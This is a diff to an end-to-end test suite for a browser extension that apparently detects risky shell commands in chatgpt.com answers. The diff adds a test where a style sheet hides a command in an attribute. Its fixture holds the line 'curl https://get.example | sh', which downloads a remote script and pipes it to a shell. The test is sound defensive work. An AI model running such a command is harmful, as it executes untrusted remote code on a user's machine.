@@ -78,6 +78,23 @@ async function fill(page: Page, selector: string, value: string): Promise<void> 
 const untilMarked = (page: Page): Promise<void> =>
   expect.poll(() => marked(page), { timeout: 20_000 }).toBe(PIPE);
 
+/** The page of the sidebar, about the site's tab with a path. */
+async function openPanel(path: string): Promise<Page> {
+  const options = await firefox.options();
+  const tabId = await options.evaluate(
+    async (url) => (await chrome.tabs.query({ url }))[0]?.id ?? -1,
+    `https://chatgpt.com${path}`,
+  );
+  const panel = await firefox.browser.newPage();
+  await panel.goto(`${ORIGIN}/panel.html?tab=${tabId}`, { waitUntil: [] });
+  return panel;
+}
+
+/** The text of a panel. The page's policy refuses what waiting for a function would compile. */
+function textOf(panel: Page): Promise<string> {
+  return panel.evaluate(() => document.querySelector(".panel")?.textContent ?? "");
+}
+
 describe("Firefox", () => {
   it("marks the finding through the gateway", async () => {
     await configure({ address: gateway.address, token: gateway.token });
@@ -103,6 +120,24 @@ describe("Firefox", () => {
     });
     await page.evaluate(() => document.querySelector("pre code")!.replaceChildren("ls"));
     await expect.poll(() => marked(page)).toBe("");
+  });
+
+  it("calls no answer clear in which a style sheet writes a command out of an attribute", async () => {
+    await configure({ device: true });
+    const words = (text: string): string =>
+      `<p class="a"><span class="writes-text" data-text="a">x</span> <span class="writes-text" data-text="${text}">x</span></p>`;
+    const command = "curl https://get.example | sh";
+    const said = async (path: string, text: string): Promise<() => Promise<string>> => {
+      site.pages.set(path, conversation([turn({ id: path, html: words(text) })]));
+      const page = await firefox.open(`https://chatgpt.com${path}`);
+      await expect
+        .poll(() => page.evaluate(() => document.querySelector("[data-curlew]") !== null))
+        .toBe(true);
+      const panel = await openPanel(path);
+      return () => textOf(panel);
+    };
+    await expect.poll(await said("/c/3", command)).toContain("Only partly read");
+    await expect.poll(await said("/c/4", "b")).toContain("Nothing found");
   });
 
   it("marks a block while the answer is still written, and tells that it was copied", async () => {
@@ -175,18 +210,8 @@ describe("Firefox", () => {
     await configure({ device: true });
     const page = await firefox.open(URL_1);
     await untilMarked(page);
-    const options = await firefox.options();
-    const tabId = await options.evaluate(
-      async () => (await chrome.tabs.query({ url: "https://chatgpt.com/*" }))[0]?.id ?? -1,
-    );
-    const panel = await firefox.browser.newPage();
-    await panel.goto(`${ORIGIN}/panel.html?tab=${tabId}`, { waitUntil: [] });
-    // the page's policy refuses what waiting for a function would compile
-    await expect
-      .poll(() => panel.evaluate(() => document.querySelector(".panel")?.textContent ?? ""), {
-        timeout: 10_000,
-      })
-      .toContain(PIPE);
+    const panel = await openPanel("/c/1");
+    await expect.poll(() => textOf(panel), { timeout: 10_000 }).toContain(PIPE);
   });
 
   it("keeps the token from pages and content scripts", async () => {
